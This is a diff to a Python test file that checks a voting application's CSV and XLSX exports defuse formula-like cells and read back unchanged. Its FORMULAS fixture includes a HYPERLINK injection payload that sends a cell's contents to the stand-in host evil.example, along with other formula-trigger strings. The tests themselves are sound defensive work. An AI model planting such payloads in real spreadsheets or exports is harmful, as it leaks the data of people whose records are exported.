@@ -1,12 +1,14 @@
 """CSV and XLSX read the same way: header, text cells, row numbers, blank rows skipped."""
 
+import csv
+import io
 from datetime import date, datetime
 from pathlib import Path
 
 import openpyxl
 import pytest
 
-from voting.tabular import TableError, read_rows
+from voting.tabular import TableError, csv_bytes, read_rows, write_table
 
 
 def test_csv_rows_keep_their_line_numbers(tmp_path: Path) -> None:
@@ -53,3 +55,39 @@ def test_unreadable_tables_are_refused(
     path.write_bytes(content)
     with pytest.raises(TableError, match=fragment.replace("(", r"\(").replace(")", r"\)")):
         read_rows(path, required=("id",))
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "+84 912 345 678",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_exports_never_write_a_formula(tmp_path: Path) -> None:
+    """Issue 16, item 9: does formula-like text get a leading ' in CSV and stay a string (never
+    a formula) in XLSX — and do both read back as what was written?"""
+    rows = [[value, "Bình thường"] for value in FORMULAS]
+    data = write_table(["full_name", "note"], rows, "csv")
+    written = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert [row[0] for row in written[1:]] == ["'" + value for value in FORMULAS]
+    assert [row[1] for row in written[1:]] == ["Bình thường"] * len(FORMULAS)
+    book = openpyxl.load_workbook(io.BytesIO(write_table(["full_name", "note"], rows, "xlsx")))
+    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]  # type: ignore[union-attr]
+    assert [cell.data_type for cell in cells] == ["s"] * len(cells)
+    # A lone carriage return may read back as a line feed (XML line-end handling, parser-dependent).
+    read_back = [str(cell.value).replace("\r", "\n") for cell in cells[::2]]
+    assert read_back == [v.replace("\r", "\n") for v in FORMULAS]
+    for fmt in ("csv", "xlsx"):
+        path = tmp_path / f"back.{fmt}"
+        path.write_bytes(write_table(["full_name"], [["=1+1"], ["'kept"], ["Ánh"]], fmt))
+        assert [row.get("full_name") for row in read_rows(path)] == ["=1+1", "'kept", "Ánh"]
+
+
+def test_plain_text_and_numbers_are_written_as_they_are() -> None:
+    """Is a cell that no spreadsheet reads as a formula left untouched?"""
+    data = csv_bytes([["Ánh", 3, "1-2", "a=b", ""]])
+    assert data.decode("utf-8-sig") == "Ánh,3,1-2,a=b,\r\n"
